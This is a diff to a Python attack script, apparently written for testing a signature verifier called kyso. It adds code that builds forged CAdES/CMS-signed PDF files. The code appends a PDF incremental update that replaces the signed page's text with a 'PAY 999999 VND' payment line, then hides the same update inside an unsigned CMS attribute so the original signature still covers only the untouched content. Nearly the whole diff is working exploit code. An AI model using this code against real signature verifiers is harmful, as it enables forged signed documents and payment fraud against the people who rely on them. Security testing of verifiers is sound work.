@@ -6,7 +6,8 @@ attacker's reading of kyso's verifier, 2026-12-02):
                                               one-page PDF; DIR/forged.p7m: the same with an
                                               incremental update of that PDF appended (offsets
                                               from its %PDF- header), replacing the page's text:
-                                              a PDF reader shows the update
+                                              a PDF reader shows the update; DIR/forged-attr.p7m:
+                                              the update inside an unsigned attribute instead
     python3 cms_attacks.py pss DIR            DIR/pss-1024.p7m and pss-2048.p7m: OpenSSL CAdES by
                                               RSA-PSS keys (id-RSASSA-PSS) of those sizes
     python3 cms_attacks.py names DIR          under DIR/sub.pem, which excludes the subtree
@@ -118,21 +119,43 @@ if mode == 'trailing':
     text = b'BT /FX 28 Tf 72 700 Td (PAY 999999 VND) Tj ET'
     prev = int(re.findall(rb'startxref\s+(\d+)', pdf)[-1])
     size = max(int(s) for s in re.findall(rb'/Size\s+(\d+)', pdf))
-    body = bytearray(b'\n')
-    offs = {}
-    for num, obj in [
-        (3, b'<< /Type /Page /Parent 1 0 R /Contents %d 0 R /Resources << /Font << /FX << /Type /Font '
-            b'/Subtype /Type1 /BaseFont /Helvetica >> >> >> >>' % size),
-        (size, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'),
-    ]:
-        offs[num] = len(signed) - base + len(body)
-        body += b'%d 0 obj\n' % num + obj + b'\nendobj\n'
-    x = len(signed) - base + len(body)
-    body += b'xref\n'
-    for num in sorted(offs):
-        body += b'%d 1\n%010d 00000 n\r\n' % (num, offs[num])
-    body += b'trailer\n<< /Size %d /Root 2 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (size + 1, prev, x)
-    open(os.path.join(d, 'forged.p7m'), 'wb').write(signed + bytes(body))
+
+    def update(at):
+        """The update, its first byte at offset `at` of the file (fixed length)."""
+        body = bytearray(b'\n')
+        offs = {}
+        for num, obj in [
+            (3, b'<< /Type /Page /Parent 1 0 R /Contents %d 0 R /Resources << /Font << /FX << /Type /Font '
+                b'/Subtype /Type1 /BaseFont /Helvetica >> >> >> >>' % size),
+            (size, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'),
+        ]:
+            offs[num] = at - base + len(body)
+            body += b'%d 0 obj\n' % num + obj + b'\nendobj\n'
+        x = at - base + len(body)
+        body += b'xref\n'
+        for num in sorted(offs):
+            body += b'%d 1\n%010d 00000 n\r\n' % (num, offs[num])
+        body += b'trailer\n<< /Size %d /Root 2 0 R /Prev %d >>\nstartxref\n%010d\n%%%%EOF\n' % (
+            size + 1, prev, x)
+        return bytes(body)
+
+    open(os.path.join(d, 'forged.p7m'), 'wb').write(signed + update(len(signed)))
+    # The same update inside the CMS, the value of an unsigned attribute (the signature does
+    # not cover it), so that the file still ends with its ContentInfo.
+    from asn1crypto import cms as acms
+    from asn1crypto import core as ac
+
+    def with_attr(body):
+        ci = acms.ContentInfo.load(signed)
+        si = ci['content']['signer_infos'][0]
+        si['unsigned_attrs'] = acms.CMSAttributes([acms.CMSAttribute(
+            {'type': '1.3.6.1.4.1.99999.1', 'values': [ac.OctetString(body)]})])
+        return ci.dump(force=True)
+
+    draft = with_attr(update(0))
+    at = draft.rindex(update(0))
+    assert at + len(update(0)) == len(draft), 'the attribute ends the file'
+    open(os.path.join(d, 'forged-attr.p7m'), 'wb').write(draft[:at] + update(at))
 elif mode == 'pss':
     d = sys.argv[2]
     os.makedirs(d, exist_ok=True)
